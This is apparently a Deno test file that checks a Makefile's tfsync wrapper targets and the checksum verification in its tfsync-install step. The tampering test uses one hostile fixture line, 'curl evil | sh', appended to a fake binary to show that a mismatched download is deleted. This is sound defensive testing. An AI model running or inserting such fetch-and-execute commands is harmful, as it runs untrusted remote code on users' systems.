// The Makefile's wrappers (exact argv through a fake tfsync) and tfsync-install's verification
// (a fake release folder served through a file:// URL).
import assert from "node:assert/strict";
import { dirname, join } from "node:path";
import { fileURLToPath as fromFileUrl, pathToFileURL } from "node:url";
import denoJson from "../deno.json" with { type: "json" };
import { PERMISSION_FLAGS } from "../tools/permissions.ts";

const REPO = fromFileUrl(new URL("..", import.meta.url)).replace(/\/$/, "");
const MAKEFILE = join(REPO, "Makefile");
const FAKE_TFSYNC = "#!/bin/sh\nprintf 'arg:%s\\n' \"$@\"\n";

function which(tool: string): string | undefined {
  try {
    const out = new Deno.Command("sh", { args: ["-c", `command -v ${tool}`] })
      .outputSync();
    return out.success ? new TextDecoder().decode(out.stdout).trim() : undefined;
  } catch {
    return undefined;
  }
}

const MAKE = Deno.build.os === "windows" ? undefined : which("make");
const CURL = which("curl");
const SHA = which("sha256sum") ?? which("shasum");
const missing = (tools: Record<string, string | undefined>) =>
  Object.entries(tools).filter(([, path]) => path === undefined).map(([name]) => name);

/** Deno.test, or an ignored test whose name says which tool is missing. */
function makeTest(
  name: string,
  fn: () => Promise<void>,
  extra: Record<string, string | undefined> = {},
) {
  const absent = missing({ make: MAKE, ...extra });
  if (absent.length > 0) {
    Deno.test({
      name: `${name} (skipped: ${absent.join(", ")} not found)`,
      ignore: true,
      fn,
    });
  } else {
    Deno.test(name, fn);
  }
}

// A PATH with make, sh, coreutils, curl and deno, but no tfsync of the developer's.
const PATH = [
  ...new Set(
    [MAKE, CURL, SHA, Deno.execPath(), "/usr/bin/env", "/bin/sh"].filter((p) => p !== undefined)
      .map((p) => dirname(p!)),
  ),
]
  .join(":");

const BASE_ENV: Record<string, string> = { PATH };
for (const name of ["HOME", "DENO_DIR", "XDG_CACHE_HOME"]) {
  const value = Deno.env.get(name);
  if (value !== undefined) BASE_ENV[name] = value;
}

interface Run {
  code: number;
  stdout: string;
  stderr: string;
  argv: string[];
}

async function make(
  args: string[],
  cwd?: string,
  env: Record<string, string> = {},
): Promise<Run> {
  const out = await new Deno.Command("make", {
    args,
    cwd,
    clearEnv: true,
    env: { ...BASE_ENV, ...env },
    stdin: "null",
  }).output();
  const stdout = new TextDecoder().decode(out.stdout);
  const argv = stdout.split("\n").filter((l) => l.startsWith("arg:")).map((l) => l.slice(4));
  return {
    code: out.code,
    stdout,
    stderr: new TextDecoder().decode(out.stderr),
    argv,
  };
}

async function tempDir(): Promise<string> {
  return await Deno.realPath(
    await Deno.makeTempDir({ prefix: "tfsync_make_" }),
  );
}

async function writeExecutable(path: string, text: string): Promise<void> {
  await Deno.mkdir(dirname(path), { recursive: true });
  await Deno.writeTextFile(path, text);
  await Deno.chmod(path, 0o755);
}

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.lstat(path);
    return true;
  } catch {
    return false;
  }
}

// [make arguments, tfsync argv after the command line's --root DIR is moved to the end]
const WRAPPERS: [string[], string[]][] = [
  [["sync-features-from"], ["extract", "--from", "a"]],
  [["sync-features-to"], ["apply", "--to", "b"]],
  [["sync-diff"], ["diff", "--from", "a", "--to", "b"]],
  [["sync-diff", "EXIT_CODE=1"], [
    "diff",
    "--from",
    "a",
    "--to",
    "b",
    "--exit-code",
  ]],
  [["sync-promote"], ["promote", "--from", "a", "--to", "b"]],
  [["sync-backport"], ["backport", "--from", "a", "--to", "b"]],
  [["sync-images"], ["sync", "--from", "a", "--to", "b", "--group", "images"]],
  [["sync-dask"], ["sync", "--from", "a", "--to", "b", "--group", "dask"]],
  [["sync-timeouts"], [
    "sync",
    "--from",
    "a",
    "--to",
    "b",
    "--group",
    "timeouts",
  ]],
  [["sync-foo"], ["sync", "--from", "a", "--to", "b", "--group", "foo"]],
  [["sync-check"], ["check"]],
  [["sync-check", "ENV=dev prod", "STRICT=1", "FORMAT=markdown"], [
    "check",
    "--env",
    "dev",
    "--env",
    "prod",
    "--strict",
    "--format",
    "markdown",
  ]],
  [["sync-explain", "VAR=x"], ["explain", "x"]],
  [["sync-explain", "VAR=x", "ENV=prod"], ["explain", "x", "--env", "prod"]],
  [["sync-matrix"], ["matrix"]],
  [["sync-matrix", "GROUP=images dask", "FORMAT=html"], [
    "matrix",
    "--group",
    "images",
    "--group",
    "dask",
    "--format",
    "html",
  ]],
  [["sync-init"], ["init"]],
  [["sync-init", "FROM_MAKEFILE=old/Makefile", "FORCE=1"], [
    "init",
    "--from-makefile",
    "old/Makefile",
    "--force",
  ]],
  [["sync-restore", "ENV=x"], ["restore", "--env", "x"]],
];

makeTest(
  "Makefile wrappers pass the exact arguments, with --root the directory make runs in",
  async () => {
    const dir = await tempDir();
    try {
      const fake = join(dir, "fake-tfsync");
      await writeExecutable(fake, FAKE_TFSYNC);
      const infra = join(dir, "infra");
      await Deno.mkdir(infra);
      for (const [args, want] of WRAPPERS) {
        const run = await make([
          "-f",
          MAKEFILE,
          "-C",
          infra,
          ...args,
          "SYNC_SOURCE=a",
          "SYNC_TARGET=b",
          `TFSYNC=${fake}`,
        ]);
        assert.equal(run.code, 0, `make ${args.join(" ")}: ${run.stderr}`);
        assert.deepEqual(
          run.argv,
          [...want, "--root", infra],
          `make ${args.join(" ")}`,
        );
      }
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
);

makeTest(
  "Makefile maps YES, DRY_RUN and TFSYNC_ARGS to options and defaults to englacial -> dev",
  async () => {
    const dir = await tempDir();
    try {
      const fake = join(dir, "fake-tfsync");
      await writeExecutable(fake, FAKE_TFSYNC);
      const cases: [string[], string[]][] = [
        [["sync-promote", "SYNC_SOURCE=a", "SYNC_TARGET=b", "YES=1"], [
          "promote",
          "--from",
          "a",
          "--to",
          "b",
          "--root",
          dir,
          "--yes",
        ]],
        [["sync-promote", "DRY_RUN=1"], [
          "promote",
          "--from",
          "englacial",
          "--to",
          "dev",
          "--root",
          dir,
          "--dry-run",
        ]],
        [[
          "sync-images",
          "YES=1",
          "DRY_RUN=1",
          "TFSYNC_ARGS=--no-backup --json",
        ], [
          "sync",
          "--from",
          "englacial",
          "--to",
          "dev",
          "--group",
          "images",
          "--root",
          dir,
          "--yes",
          "--dry-run",
          "--no-backup",
          "--json",
        ]],
        [["sync-promote", "YES=0", "DRY_RUN="], [
          "promote",
          "--from",
          "englacial",
          "--to",
          "dev",
          "--root",
          dir,
        ]],
      ];
      for (const [args, want] of cases) {
        const run = await make(
          ["-f", MAKEFILE, ...args, `TFSYNC=${fake}`],
          dir,
        );
        assert.equal(run.code, 0, run.stderr);
        assert.deepEqual(run.argv, want, `make ${args.join(" ")}`);
      }
      // Variables from the environment work as well as on the command line.
      const run = await make(["-f", MAKEFILE, "sync-backport"], dir, {
        TFSYNC: fake,
        SYNC_SOURCE: "prod",
        SYNC_TARGET: "dev",
        YES: "1",
      });
      assert.deepEqual(run.argv, [
        "backport",
        "--from",
        "prod",
        "--to",
        "dev",
        "--root",
        dir,
        "--yes",
      ]);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
);

makeTest(
  "Makefile refuses sync-explain without VAR and sync-restore without ENV",
  async () => {
    const dir = await tempDir();
    try {
      const fake = join(dir, "fake-tfsync");
      await writeExecutable(fake, FAKE_TFSYNC);
      for (
        const [target, message] of [[
          "sync-explain",
          "sync-explain needs VAR=<variable>",
        ], ["sync-restore", "sync-restore needs ENV=<environment>"]]
      ) {
        const run = await make(["-f", MAKEFILE, target, `TFSYNC=${fake}`], dir);
        assert.notEqual(run.code, 0);
        assert.deepEqual(run.argv, []);
        assert.match(
          run.stderr,
          new RegExp(`${message.replace(/[<>]/g, ".")}\\.  Stop\\.`),
        );
      }
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
);

makeTest(
  "Makefile runs a wrapper even when a file of the same name exists",
  async () => {
    const dir = await tempDir();
    try {
      const fake = join(dir, "fake-tfsync");
      await writeExecutable(fake, FAKE_TFSYNC);
      for (const target of ["sync-images", "sync-foo", "sync-check"]) {
        await Deno.writeTextFile(join(dir, target), "");
        const run = await make(["-f", MAKEFILE, target, `TFSYNC=${fake}`], dir);
        assert.equal(run.code, 0, run.stderr);
        assert.equal(run.argv[0], target === "sync-check" ? "check" : "sync");
      }
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
);

makeTest(
  "Makefile included from an infrastructure Makefile keeps its default goal and runs there",
  async () => {
    const dir = await tempDir();
    try {
      const fake = join(dir, "fake-tfsync");
      await writeExecutable(fake, FAKE_TFSYNC);
      const infra = join(dir, "infra");
      await Deno.mkdir(infra);
      // Included first, before the infrastructure's own targets and variables.
      await Deno.writeTextFile(
        join(infra, "Makefile"),
        `include ${MAKEFILE}\n\nSYNC_SOURCE := staging\n\nplan:\n\t@echo planning\n`,
      );
      let run = await make(["-C", infra], dir);
      assert.equal(run.code, 0, run.stderr);
      assert.match(run.stdout, /^planning$/m);
      run = await make([
        "-C",
        infra,
        "sync-promote",
        "SYNC_TARGET=prod",
        "YES=1",
        `TFSYNC=${fake}`,
      ], dir);
      assert.equal(run.code, 0, run.stderr);
      assert.deepEqual(run.argv, [
        "promote",
        "--from",
        "staging",
        "--to",
        "prod",
        "--root",
        infra,
        "--yes",
      ]);
      run = await make([
        "-C",
        infra,
        "sync-restore",
        "ENV=prod",
        `TFSYNC=${fake}`,
      ], dir);
      assert.deepEqual(run.argv, ["restore", "--env", "prod", "--root", infra]);

      // Included last, after a target of its own and a sync target the infrastructure defines.
      await Deno.writeTextFile(
        join(infra, "Makefile"),
        `all:\n\t@echo own default\n\nsync-legacy:\n\t@echo legacy\n\ninclude ${MAKEFILE}\n`,
      );
      run = await make(["-C", infra], dir);
      assert.match(run.stdout, /^own default$/m);
      run = await make(["-C", infra, "sync-legacy", `TFSYNC=${fake}`], dir);
      assert.match(run.stdout, /^legacy$/m);
      assert.deepEqual(run.argv, []);
      run = await make(["-C", infra, "sync-dask", `TFSYNC=${fake}`], dir);
      assert.deepEqual(run.argv, [
        "sync",
        "--from",
        "englacial",
        "--to",
        "dev",
        "--group",
        "dask",
        "--root",
        infra,
      ]);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
);

makeTest(
  "Makefile's command is ./bin/tfsync, else tfsync on PATH, else deno run of mod.ts with the narrow permissions",
  async () => {
    const dir = await tempDir();
    try {
      const command = async (env: Record<string, string> = {}) => {
        const run = await make(["-f", MAKEFILE, "tfsync-help"], dir, env);
        assert.equal(run.code, 0, run.stderr);
        return /^Command: (.*)$/m.exec(run.stdout)?.[1];
      };
      assert.equal(
        await command(),
        `deno run --config '${REPO}/deno.json' ${PERMISSION_FLAGS.join(" ")} '${REPO}/mod.ts'`,
      );
      const onPath = join(dir, "path-bin");
      await writeExecutable(join(onPath, "tfsync"), FAKE_TFSYNC);
      assert.equal(
        await command({ PATH: `${onPath}:${PATH}` }),
        join(onPath, "tfsync"),
      );
      await writeExecutable(join(dir, "bin", "tfsync"), FAKE_TFSYNC);
      assert.equal(
        await command({ PATH: `${onPath}:${PATH}` }),
        "./bin/tfsync",
      );
      const run = await make(["-f", MAKEFILE, "sync-diff"], dir);
      assert.deepEqual(run.argv, [
        "diff",
        "--from",
        "englacial",
        "--to",
        "dev",
        "--root",
        dir,
      ]);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
);

makeTest(
  "Makefile copied alone says how to get tfsync when there is none",
  async () => {
    const dir = await tempDir();
    try {
      await Deno.copyFile(MAKEFILE, join(dir, "tfsync.mk"));
      const help = await make(["-f", "tfsync.mk", "tfsync-help"], dir);
      assert.equal(help.code, 0, help.stderr);
      assert.match(
        help.stdout,
        /^Command: tfsync \(tfsync not found: run 'make tfsync-install', put tfsync on PATH, or set TFSYNC\)$/m,
      );
      const run = await make(["-f", "tfsync.mk", "sync-promote"], dir);
      assert.notEqual(run.code, 0);
      assert.match(
        run.stderr,
        /tfsync not found: run 'make tfsync-install', put tfsync on PATH, or set TFSYNC\. {2}Stop\./,
      );
      const install = await make(["-f", "tfsync.mk", "tfsync-install"], dir);
      assert.equal(install.code, 2);
      assert.match(install.stderr, /tfsync-install: set TFSYNC_VERSION/);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
);

// --- tfsync-install --------------------------------------------------------------------------

const HOST_TARGETS: Record<string, string> = {
  "x86_64-unknown-linux-gnu": "x86_64-unknown-linux-gnu",
  "aarch64-unknown-linux-gnu": "aarch64-unknown-linux-gnu",
  "x86_64-apple-darwin": "x86_64-apple-darwin",
  "aarch64-apple-darwin": "aarch64-apple-darwin",
};
const HOST = HOST_TARGETS[Deno.build.target] ?? Deno.build.target;
const VERSION = denoJson.version;
const GOOD_BINARY = `#!/bin/sh\necho "tfsync ${VERSION}"\n`;

async function sha256(text: string): Promise<string> {
  const digest = await crypto.subtle.digest(
    "SHA-256",
    new TextEncoder().encode(text),
  );
  return Array.from(
    new Uint8Array(digest),
    (b) => b.toString(16).padStart(2, "0"),
  ).join("");
}

/** A release folder as release.yml publishes it: the binaries and SHA256SUMS. */
async function fakeRelease(
  dir: string,
  published: string,
  listed = published,
  version = VERSION,
): Promise<string> {
  const release = join(dir, "release");
  await Deno.mkdir(release, { recursive: true });
  const name = `tfsync-${version}-${HOST}`;
  await Deno.writeTextFile(join(release, name), published);
  const other = "#!/bin/sh\necho other target\n";
  await Deno.writeTextFile(
    join(release, `tfsync-${version}-riscv64-unknown-none`),
    other,
  );
  await Deno.writeTextFile(
    join(release, "SHA256SUMS"),
    `${await sha256(
      other,
    )}  tfsync-${version}-riscv64-unknown-none\n${await sha256(
      listed,
    )}  ${name}\n`,
  );
  return pathToFileURL(release).href;
}

const installTest = (name: string, fn: () => Promise<void>) =>
  makeTest(name, fn, { curl: CURL, "sha256sum or shasum": SHA });

installTest(
  "tfsync-install downloads the host's binary into ./bin, verified and executable",
  async () => {
    const dir = await tempDir();
    try {
      const url = await fakeRelease(dir, GOOD_BINARY);
      const run = await make([
        "-f",
        MAKEFILE,
        "tfsync-install",
        `TFSYNC_RELEASE_URL=${url}`,
      ], dir);
      assert.equal(run.code, 0, run.stderr);
      const installed = join(dir, "bin", "tfsync");
      assert.equal(await Deno.readTextFile(installed), GOOD_BINARY);
      assert.notEqual((await Deno.stat(installed)).mode! & 0o111, 0);
      assert.match(
        run.stdout,
        new RegExp(
          `^tfsync-install: bin/tfsync \\(tfsync ${
            VERSION.replaceAll(".", "\\.")
          }, sha256 ${await sha256(GOOD_BINARY)}\\)$`,
          "m",
        ),
      );
      assert.deepEqual(
        [...Deno.readDirSync(join(dir, "bin"))].map((e) => e.name),
        ["tfsync"],
      );
      // The wrappers now run it.
      await Deno.writeTextFile(installed, FAKE_TFSYNC);
      const sync = await make(["-f", MAKEFILE, "sync-timeouts"], dir);
      assert.deepEqual(sync.argv, [
        "sync",
        "--from",
        "englacial",
        "--to",
        "dev",
        "--group",
        "timeouts",
        "--root",
        dir,
      ]);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
);

installTest("tfsync-install deletes a tampered binary and fails", async () => {
  const dir = await tempDir();
  try {
    const url = await fakeRelease(
      dir,
      GOOD_BINARY + "curl evil | sh\n",
      GOOD_BINARY,
    );
    const run = await make([
      "-f",
      MAKEFILE,
      "tfsync-install",
      `TFSYNC_RELEASE_URL=${url}`,
    ], dir);
    assert.notEqual(run.code, 0);
    assert.match(
      run.stderr,
      new RegExp(
        `checksum mismatch for tfsync-${
          VERSION.replaceAll(".", "\\.")
        }-${HOST}: got [0-9a-f]{64}, SHA256SUMS lists ${await sha256(
          GOOD_BINARY,
        )}; deleted it`,
      ),
    );
    assert.equal(await exists(join(dir, "bin", "tfsync")), false);
    assert.deepEqual([...Deno.readDirSync(join(dir, "bin"))], []);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

installTest(
  "tfsync-install fails on a binary missing from SHA256SUMS, a pin mismatch, or a missing release",
  async () => {
    const dir = await tempDir();
    try {
      const url = await fakeRelease(dir, GOOD_BINARY, GOOD_BINARY, "9.9.9");
      // SHA256SUMS of another version: nothing listed for this name.
      await Deno.writeTextFile(
        join(fromFileUrl(url), `tfsync-${VERSION}-${HOST}`),
        GOOD_BINARY,
      );
      let run = await make([
        "-f",
        MAKEFILE,
        "tfsync-install",
        `TFSYNC_RELEASE_URL=${url}`,
      ], dir);
      assert.notEqual(run.code, 0);
      assert.match(run.stderr, /SHA256SUMS lists nothing; deleted it/);
      assert.equal(await exists(join(dir, "bin", "tfsync")), false);

      // Listed and matching, but not the hash pinned in the infrastructure repository.
      run = await make([
        "-f",
        MAKEFILE,
        "tfsync-install",
        `TFSYNC_RELEASE_URL=${url}`,
        "TFSYNC_VERSION=9.9.9",
        `TFSYNC_SHA256=${"0".repeat(64)}`,
      ], dir);
      assert.notEqual(run.code, 0);
      assert.match(run.stderr, /and TFSYNC_SHA256 is 0{64}; deleted it/);
      assert.equal(await exists(join(dir, "bin", "tfsync")), false);
      run = await make([
        "-f",
        MAKEFILE,
        "tfsync-install",
        `TFSYNC_RELEASE_URL=${url}`,
        "TFSYNC_VERSION=9.9.9",
        `TFSYNC_SHA256=${await sha256(GOOD_BINARY)}`,
      ], dir);
      assert.equal(run.code, 0, run.stderr);
      await Deno.remove(join(dir, "bin"), { recursive: true });

      // No such release.
      run = await make([
        "-f",
        MAKEFILE,
        "tfsync-install",
        `TFSYNC_RELEASE_URL=${url}/missing`,
      ], dir);
      assert.notEqual(run.code, 0);
      assert.equal(await exists(join(dir, "bin", "tfsync")), false);
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
);

makeTest(
  "Makefile's host target is Deno's for the release targets",
  async () => {
    if (!(Deno.build.target in HOST_TARGETS)) return;
    const dir = await tempDir();
    try {
      const run = await make([
        "-f",
        MAKEFILE,
        "tfsync-install",
        "TFSYNC_VERSION=",
        "-n",
      ], dir);
      assert.equal(run.code, 0, run.stderr);
      assert.match(run.stdout, new RegExp(`name='tfsync--${HOST}'`));
    } finally {
      await Deno.remove(dir, { recursive: true });
    }
  },
);
